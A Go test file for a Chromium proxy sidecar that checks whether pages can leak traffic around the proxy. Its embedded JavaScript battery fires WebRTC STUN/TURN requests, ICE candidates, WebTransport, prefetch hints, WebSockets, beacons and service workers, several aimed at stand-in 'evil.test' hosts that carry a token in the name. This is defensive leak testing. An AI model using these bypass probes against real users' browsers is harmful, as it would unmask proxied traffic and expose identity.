//go:build linux

package attack

import (
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pillion-browser/pillion/sidecar/internal/apptest"
	"github.com/pillion-browser/pillion/sidecar/internal/chrome"
)

// leakWait is how long a leak gets to show: ICE gathering begins late, and a test
// of six seconds has been seen to look clean when there was a leak.
const leakWait = 25 * time.Second

// idleWait is how long a browser is left alone before its first page: what it has
// to say by itself, it says in that time.
const idleWait = 30 * time.Second

// stunAddr is a server for STUN that a page names by its address.
const stunAddr = "203.0.113.9"

// battery is everything that a page can do to send something around the proxy, at
// once. Names carry TOKEN, so that whoever asks for them shows.
const battery = `
const token = 'TOKEN';
const done = [];
for (const url of ['stun:203.0.113.9:3478', 'stun:stun.' + token + '.evil.test:3478', 'stun:[2001:db8::9]:3478', 'stun:93.184.216.34:19302',
	'turn:203.0.113.9:3478?transport=udp', 'turn:data.' + token + '.evil.test?transport=tcp', 'turns:data2.' + token + '.evil.test:443?transport=tcp', 'turn:127.0.0.1:9001?transport=tcp']) {
	try {
		const p = new RTCPeerConnection({iceServers: [{urls: url, username: token, credential: 'secret'}]});
		p.createDataChannel('x');
		p.createOffer().then((o) => p.setLocalDescription(o));
		(window.peers ||= []).push(p);
		p.onicecandidate = (e) => e.candidate && done.push(e.candidate.candidate);
	} catch (e) { done.push(String(e)); }
}
// A peer that names its candidates: the browser would look the names up, and send.
(async () => {
	const a = new RTCPeerConnection(), b = new RTCPeerConnection();
	(window.peers ||= []).push(a, b);
	a.createDataChannel('x');
	await a.setLocalDescription(await a.createOffer());
	await b.setRemoteDescription(a.localDescription);
	await b.setLocalDescription(await b.createAnswer());
	await a.setRemoteDescription(b.localDescription);
	for (const host of ['203.0.113.9', '93.184.216.34', 'peer.' + token + '.evil.test', '0123-' + token + '.local', '10.77.0.1', '224.0.0.251']) {
		a.addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 ' + host + ' 5353 typ host', sdpMid: '0'}).catch((e) => done.push(String(e)));
		a.addIceCandidate({candidate: 'candidate:2 1 tcp 2130706431 ' + host + ' 9001 typ host tcptype passive', sdpMid: '0'}).catch(() => {});
	}
})().catch((e) => done.push(String(e)));
if (window.WebTransport) for (const host of ['203.0.113.9', '93.184.216.34', 'quic.' + token + '.evil.test']) {
	try { new WebTransport('https://' + host + ':4433/', {serverCertificateHashes: [{algorithm: 'sha-256', value: new Uint8Array(32)}]}).ready.catch(() => {}); } catch (e) {}
}
for (const rel of ['dns-prefetch', 'preconnect', 'modulepreload', 'prefetch', 'prerender', 'preload']) for (const url of ['http://127.0.0.1:9001/hint', 'https://hint-' + rel + '.' + token + '.evil.test/', '//hint2-' + rel + '.' + token + '.evil.test:9001']) {
	if ((rel === 'modulepreload' || rel === 'preload' || rel === 'prefetch') && url.includes('evil')) continue; // public ones may be loaded
	document.head.append(Object.assign(document.createElement('link'), {rel, href: url, as: 'script'}));
}
for (const url of ['ws://127.0.0.1:9001/', 'ws://localhost:9001/', 'ws://[::1]:9001/', 'wss://127.0.0.1:443/', 'ws://10.77.0.1:9001/']) { try { new WebSocket(url); } catch (e) {} }
navigator.sendBeacon('http://127.0.0.1:9001/beacon', 'x');
new EventSource('http://127.0.0.1:9001/events');
fetch('http://127.0.0.1:9001/keepalive', {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true}).catch(() => {});
const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://127.0.0.1:9001/ping'; document.body.append(a); a.click();
const frame = document.createElement('iframe'); document.body.append(frame);
const registered = async (w) => { try { const r = await w.navigator.serviceWorker.register('/sw.js'); return r ? 'registered' : 'nothing'; } catch (e) { return 'failed'; } };
window.workers = Promise.all([registered(window), registered(frame.contentWindow)]).then((x) => x.join());
new ReportingObserver(() => {});
'started'`

// fill puts a token into the battery.
func fillBattery(token string) string { return strings.ReplaceAll(battery, "TOKEN", token) }

// seat is where the battery is fired.
type seat struct {
	flavour string
	share   bool // one network with the sidecar
}

func (s seat) String() string {
	if s.share {
		return s.flavour + ", shared network"
	}
	return s.flavour + ", own network"
}

// result is what the battery did.
type result struct {
	idle, datagrams, tcp, near []string
	counted                    int // datagrams by the kernel's count, in Chromium's network
	asked                      []string
	workers                    string
}

// fire starts a browser, leaves it alone for a while, then loads the page with the
// battery and waits.
func fire(t *testing.T, e *scene, s seat) result {
	t.Helper()
	token := strings.NewReplacer(" ", "", ",", "").Replace(s.String())
	var r result
	l := openLab(t, e.origin(), s.flavour, s.share)
	tab := l.browser.Tabs()[0]
	before, sentBefore := mark(e.world), sent(l.process.PID())
	time.Sleep(idleWait) // no page yet
	for _, p := range e.world.tap.since(before.tap, func(packet) bool { return true }) {
		r.idle = append(r.idle, p.String())
	}
	before = mark(e.world)
	if _, err := tab.Navigate(within(t), e.origin()+"/leave?to=x"); err != nil {
		t.Fatal(err)
	}
	eval(t, tab.MainFrame(), fillBattery(token))
	time.Sleep(leakWait)
	r.workers = eval(t, tab.MainFrame(), "workers")
	r.counted = sent(l.process.PID()) - sentBefore
	for _, p := range e.world.tap.since(before.tap, datagrams) {
		r.datagrams = append(r.datagrams, p.String())
	}
	for _, p := range e.world.tap.since(before.tap, func(p packet) bool { return p.proto == "tcp" }) {
		r.tcp = append(r.tcp, p.String())
	}
	for _, a := range e.world.near.since(before.near, nil) {
		r.near = append(r.near, a.String())
	}
	for _, name := range e.world.names.all() {
		if strings.Contains(name, token) {
			r.asked = append(r.asked, name)
		}
	}
	return r
}

// leaks are the results by seat, made once.
type leaks struct {
	results map[string]result
}

// leakRow judges a row by what the battery did, in each browser, in a network of
// its own and in one that it shares with the sidecar.
func leakRow(t *testing.T, e *scene, r row) {
	e.needWorld(t)
	if !full() {
		t.Skip("not run here: it waits for minutes; see make attack")
	}
	for _, share := range []bool{false, true} {
		s := seat{flavour: e.flavour, share: share}
		got, ok := e.leaks.results[s.String()]
		if !ok {
			got = fire(t, e, s)
			e.leaks.results[s.String()] = got
		}
		got.judge(t, s, r)
	}
}

func (g result) judge(t *testing.T, s seat, r row) {
	t.Helper()
	complain := func(what string, list []string) {
		t.Helper()
		if len(list) > 0 {
			t.Errorf("%v: %s: %q", s, what, list)
		}
	}
	if len(g.tcp) > 0 {
		t.Logf("%v: connections through the proxy: %q", s, g.tcp)
	}
	switch r.ID {
	case "S089":
		complain("datagrams", g.datagrams)
		if !s.share && g.counted > 0 {
			t.Errorf("%v: the kernel counts %d datagrams in Chromium's network", s, g.counted)
		}
	case "S090":
		complain("names that were asked for", g.asked)
		complain("datagrams", g.datagrams)
	case "S091", "S092":
		complain("arrived at loopback", g.near)
	case "S093":
		if strings.Contains(g.workers, "registered") {
			t.Errorf("%v: a service worker was registered: %s", s, g.workers)
		}
	case "S094":
		complain("names that were asked for", g.asked)
		complain("arrived at loopback", g.near)
		complain("connections", g.tcp)
	case "S095":
		complain("without any page", g.idle)
	default:
		complain("datagrams", g.datagrams)
		complain("names that were asked for", g.asked)
		complain("arrived at loopback", g.near)
	}
}

// withoutWalls is the other half of the leak rows: in a Chromium without a wall a
// page that does less is loud, and the tap hears it.
func (e *scene) withoutWalls(t *testing.T) {
	e.needWorld(t)
	flavour := e.flavour
	binary, err := chrome.Find(within(t), chrome.Want{Chromium: flavour})
	if err != nil {
		t.Fatal(err)
	}
	user, err := chrome.PickUser()
	if err != nil {
		t.Fatal(err)
	}
	defer user.Close()
	dir := apptest.Workdir(t)
	if err := os.Chown(dir, user.UID, user.GID); err != nil {
		t.Fatal(err)
	}
	args := []string{"--user-data-dir=" + dir + "/p", "--no-first-run", "--remote-debugging-pipe"}
	if flavour == chrome.Full {
		args = append(args, "--headless=new")
	}
	cmd := exec.Command(binary.Path, append(args, e.origin()+"/leave?how=rtc&to=http://"+stunAddr+":3478")...)
	cmd.Dir, cmd.Env = dir, []string{"HOME=" + dir, "TMPDIR=" + dir, "PATH=" + os.Getenv("PATH")}
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Setsid: true, Pdeathsig: syscall.SIGKILL,
		Credential: &syscall.Credential{Uid: uint32(user.UID), Gid: uint32(user.GID), Groups: []uint32{}},
	}
	commands, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	events, out, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { w.Close(); events.Close() }()
	cmd.ExtraFiles = []*os.File{commands, out}
	before := e.world.tap.mark()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	commands.Close()
	out.Close()
	defer func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
	}()
	loud := to(netip.MustParseAddr(stunAddr))
	for end := time.Now().Add(2 * leakWait); len(e.world.tap.since(before, loud)) == 0; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("%s without walls sent no datagram within %v: the silence of the others proves nothing", flavour, 2*leakWait)
		}
	}
	t.Logf("%s without walls: %v", flavour, e.world.tap.since(before, loud)[0])
}
